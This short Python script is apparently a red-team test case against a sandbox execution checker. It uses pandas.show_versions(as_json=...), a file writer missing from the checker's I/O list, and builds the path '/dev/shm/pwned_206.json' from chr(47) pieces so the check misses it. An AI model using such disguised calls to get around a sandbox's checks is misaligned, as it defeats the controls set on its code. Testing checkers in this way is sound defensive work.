# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 9 writer missing from the file I/O list
# source: https://pandas.pydata.org/docs/reference/api/pandas.show_versions.html ("as_json: str is a path to a file")
# family: file writer not on the host-path list (show_versions(as_json=path)); also spawns `uname -p` via platform
# goal: write a file at a run-time path outside the working directory (/dev/shm)
import json
import pandas as pd

p = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "pwned_206.json"
pd.show_versions(as_json=p)
from pandas import read_json as rj
back = rj(p)
print(json.dumps({"written": p, "read_back_keys": list(back.keys()) if hasattr(back, "keys") else str(type(back))}))
